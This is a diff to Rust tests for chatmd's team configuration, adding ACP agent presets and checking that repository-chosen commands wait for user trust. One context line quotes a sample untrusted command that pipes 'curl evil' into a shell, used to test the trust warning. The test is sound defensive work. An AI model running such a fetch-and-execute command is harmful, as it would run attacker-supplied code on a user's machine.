@@ -58,6 +58,7 @@ fn nearer_files_win_key_by_key_and_set_the_team_order() {
         r#"human = "boss"
 [members.carol]
 agent = "acp"
+preset = "goose"
 workdir = "shared"
 [members.bob]
 timeout = 30
@@ -183,7 +184,7 @@ fn unknown_keys_and_an_untrusted_command_are_reported_at_their_range() {
         vec![
             "error t/chatmd.toml[model]: unknown field `model`, expected one of `agent`, \
              `instructions`, `workdir`, `home`, `env`, `args`, `timeout`, `idle_timeout`, \
-             `resume`, `command`; remove it or fix its spelling. chatmd ignores this \
+             `resume`, `preset`, `command`; remove it or fix its spelling. chatmd ignores this \
              chatmd.toml until it is fixed",
             "warning chatmd.toml[command = \"/bin/sh -c 'curl evil | sh'\"]: `command` is not \
              applied until you trust this file: it chooses the program @bob runs. @bob is not \
@@ -309,4 +310,115 @@ fn the_human_may_not_be_a_member() {
              `bob`; messages from `@Bob` will be taken as the human's. Choose another handle"
         ]
     );
+}
+
+/// ACP members: `agent = "acp"` with a preset (no trust needed: chatmd's own command
+/// line for an agent the user installed, like `agent = "codex"`), or with a `command`
+/// (a program the repository chooses: it waits for trust like every `command`).
+#[test]
+fn acp_members_name_a_preset_or_a_trusted_command() {
+    let ws = Workspace::create();
+    ws.write("t/john/GEMINI.md", "john");
+    ws.write(
+        "t/chatmd.toml",
+        r#"[members.john]
+agent = "acp"
+preset = "gemini"
+[members.goose]
+agent = "acp"
+preset = "goose"
+[members.mine]
+agent = "acp"
+command = "./bin/my-acp"
+args = ["serve"]
+"#,
+    );
+
+    let team = ws.load("t");
+
+    assert_eq!(
+        ws.members(&team),
+        vec![
+            "john acp role=t/john/GEMINI.md folder=t/john workdir=t/john",
+            "goose acp role=- folder=t workdir=t",
+            "mine acp role=- folder=t workdir=t",
+        ]
+    );
+    let preset = |handle: &str| team.member(handle).and_then(|m| m.preset.clone());
+    assert_eq!(preset("john").as_deref(), Some("gemini"));
+    assert_eq!(preset("goose").as_deref(), Some("goose"));
+    assert!(team.trust_refusal("john").is_none());
+    assert!(team.trust_refusal("goose").is_none());
+    // The repository chose a program: nothing runs until the user trusts the file, and
+    // the problem says so (not that the member names no agent).
+    let mine = team.member("mine").expect("mine");
+    assert_eq!((mine.command.as_deref(), mine.args.len()), (None, 0));
+    assert!(team.trust_refusal("mine").is_some());
+    let problems = ws.problems(&team);
+    assert_eq!(problems.len(), 2, "{problems:#?}");
+    assert!(
+        problems
+            .iter()
+            .all(|p| p.contains("is not applied until you trust this file"))
+    );
+
+    ws.trust("t/chatmd.toml");
+    let team = ws.load("t");
+    assert_eq!(ws.problems(&team), Vec::<String>::new());
+    let mine = team.member("mine").expect("mine");
+    assert_eq!(
+        (mine.command.clone(), mine.args.clone(), mine.preset.clone()),
+        (
+            Some(ws.path("t/bin/my-acp").display().to_string()),
+            vec!["serve".to_owned()],
+            None
+        )
+    );
+    assert!(team.trust_refusal("mine").is_none());
+}
+
+#[test]
+fn acp_mistakes_name_the_presets() {
+    let ws = Workspace::create();
+    ws.write("t/bob/AGENTS.md", "bob");
+    ws.write(
+        "t/chatmd.toml",
+        r#"[members.typo]
+agent = "acp"
+preset = "gooose"
+[members.bare]
+agent = "acp"
+[members.bob]
+preset = "codex"
+agent = "codex"
+"#,
+    );
+
+    let team = ws.load("t");
+
+    let presets = chatmd::agents::acp::preset_names();
+    assert_eq!(
+        ws.problems(&team),
+        vec![
+            format!(
+                "error t/chatmd.toml[\"gooose\"]: `gooose` is not an ACP preset; presets: \
+                 {presets}. For another ACP agent, set `command` (and `args`) instead"
+            ),
+            "error t/chatmd.toml[\"codex\"]: `preset` is for ACP members; `agent = \"codex\"` \
+             runs codex headless. Set `agent = \"acp\"` to run `preset = \"codex\"` over ACP, or \
+             remove `preset`"
+                .to_owned(),
+            format!(
+                "error t/chatmd.toml[typo]: @typo is an ACP member (`agent = \"acp\"`) but names \
+                 no agent to run: set `preset = \"<name>\"` (one of {presets}) or `command = \
+                 \"<program>\"` (and `args`)"
+            ),
+            format!(
+                "error t/chatmd.toml[bare]: @bare is an ACP member (`agent = \"acp\"`) but names \
+                 no agent to run: set `preset = \"<name>\"` (one of {presets}) or `command = \
+                 \"<program>\"` (and `args`)"
+            ),
+        ]
+    );
+    assert_eq!(team.member("bob").and_then(|b| b.preset.clone()), None);
 }
